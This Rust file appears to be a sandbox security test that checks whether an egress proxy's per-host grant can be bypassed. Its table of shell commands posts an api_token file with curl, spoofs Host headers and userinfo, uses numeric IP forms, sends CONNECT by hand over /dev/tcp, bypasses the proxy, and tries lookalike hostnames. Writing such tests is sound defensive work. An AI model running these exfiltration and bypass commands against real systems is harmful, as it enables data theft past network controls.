//! Exfiltration through a per-host network grant: each row is a command run
//! in the namespace sandbox whose run may reach one granted host (a host
//! listener at `{granted}`) through the egress proxy, and which tries to
//! send to another host listener (`{port}`) that it was not granted. It
//! *ran* when the ungranted listener accepted a connection or the proxy
//! allowed a connection to it, and *leaked* when a canary secret shows in
//! its output.

use std::net::TcpListener;
use std::sync::Arc;
use std::time::Duration;

use opticlaw_sandbox::egress::{Egress, EgressLog, Verdict};
use opticlaw_sandbox::{Limits, Network, RunSpec};

use crate::{Attack, Case, Env, Family, Outcome};

#[derive(Debug, Clone)]
pub struct EgressAttack {
    /// The shell script; `{port}` (the ungranted listener), `{granted}`
    /// and `{home}` are filled in before it runs.
    pub script: &'static str,
    /// The run's grant, filled in the same way.
    pub grant: &'static [&'static str],
}

const GRANTED: &[&str] = &["127.0.0.1:{granted}"];

const TABLE: &[(&str, &[&str])] = &[
    // Through the proxy, to a host not granted.
    (
        "curl -s --max-time 5 --data-binary @{home}/api_token http://127.0.0.1:{port}/",
        GRANTED,
    ),
    (
        "curl -s --max-time 5 --proxytunnel http://127.0.0.1:{port}/",
        GRANTED,
    ),
    (
        "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://127.0.0.1:{port}/?d=x\", timeout=5)'",
        GRANTED,
    ),
    // The granted host in the Host header, another port in the request.
    (
        "curl -s --max-time 5 -H 'Host: 127.0.0.1:{granted}' http://127.0.0.1:{port}/",
        GRANTED,
    ),
    // The granted host as user info, the real target after the `@`.
    (
        "curl -s --max-time 5 'http://127.0.0.1:{granted}@127.0.0.1:{port}/'",
        GRANTED,
    ),
    // Forms the C resolver reads as 127.0.0.1.
    (
        "curl -s --max-time 5 http://2130706433:{port}/; curl -s --max-time 5 http://0x7f.1:{port}/",
        GRANTED,
    ),
    // Speaking CONNECT to the proxy by hand.
    (
        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{granted}\\r\\nConnection: close\\r\\n\\r\\nhi' >&3; head -c 200 <&3",
        GRANTED,
    ),
    // Around the proxy: the sandbox's own loopback, and any other address.
    (
        "curl -s --max-time 5 --noproxy '*' http://127.0.0.1:{port}/ && echo connected",
        GRANTED,
    ),
    (
        "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected",
        GRANTED,
    ),
    (
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' && echo connected",
        GRANTED,
    ),
    // A granted *name* that resolves to loopback (DNS rebinding).
    (
        "curl -s --max-time 5 http://localhost:{port}/",
        &["localhost:{port}"],
    ),
    // A lookalike of a granted name.
    (
        "curl -s --max-time 5 http://localhost.localdomain:{port}/; curl -s --max-time 5 http://evil-localhost:{port}/",
        &["localhost:{port}"],
    ),
];

pub fn cases() -> Vec<Case> {
    TABLE
        .iter()
        .enumerate()
        .map(|(i, (script, grant))| Case {
            id: format!("egress-{i:03}-exfiltrate"),
            family: Family::Egress,
            attack: Attack::Egress(EgressAttack { script, grant }),
        })
        .collect()
}

pub fn run(env: &Env, attack: &EgressAttack) -> Outcome {
    let sandbox = match &env.sandbox {
        Ok(sandbox) => sandbox,
        Err(why) => return Outcome::failed_setup(format!("no sandbox: {why}")),
    };
    let listen = || {
        let listener = TcpListener::bind("127.0.0.1:0").expect("binding a host listener");
        listener
            .set_nonblocking(true)
            .expect("nonblocking listener");
        let port = listener.local_addr().expect("listener address").port();
        (listener, port.to_string())
    };
    let (attacked, port) = listen();
    let (_granted, granted) = listen();
    let fill = |text: &str| {
        text.replace("{port}", &port)
            .replace("{granted}", &granted)
            .replace("{home}", &env.daemon_home().display().to_string())
    };
    let log = Arc::new(EgressLog::default());
    let egress = match Egress::parse(attack.grant.iter().map(|g| fill(g))) {
        Ok(egress) => egress.observed_by(log.clone()),
        Err(why) => return Outcome::failed_setup(why),
    };
    let script = fill(attack.script);
    let spec = RunSpec::new(["/bin/bash", "-c", script.as_str()])
        .hidden(env.daemon_home())
        .network(Network::Proxied(egress))
        .limits(Limits {
            wall_clock: Duration::from_secs(10),
            ..Limits::default()
        });
    let (out, stdout, text) = match crate::sandbox::run_script(sandbox, &spec) {
        Ok(ran) => ran,
        Err(blocked) => return blocked,
    };
    let port: u16 = port.parse().expect("a port");
    let allowed_to_attacked = log
        .events()
        .iter()
        .any(|e| e.port == port && matches!(e.verdict, Verdict::Allowed { .. }));
    let ran = attacked.accept().is_ok() || allowed_to_attacked || stdout.contains("connected");
    let refusals = log
        .events()
        .iter()
        .filter(|e| matches!(e.verdict, Verdict::Refused { .. }))
        .count();
    Outcome {
        ran,
        leaked: env.contains_canary(&text),
        detail: if ran {
            format!("sent: {}", text.chars().take(200).collect::<String>())
        } else {
            format!(
                "nothing reached the ungranted host; the proxy refused {refusals} request(s) (exit {:?})",
                out.status
            )
        },
    }
}
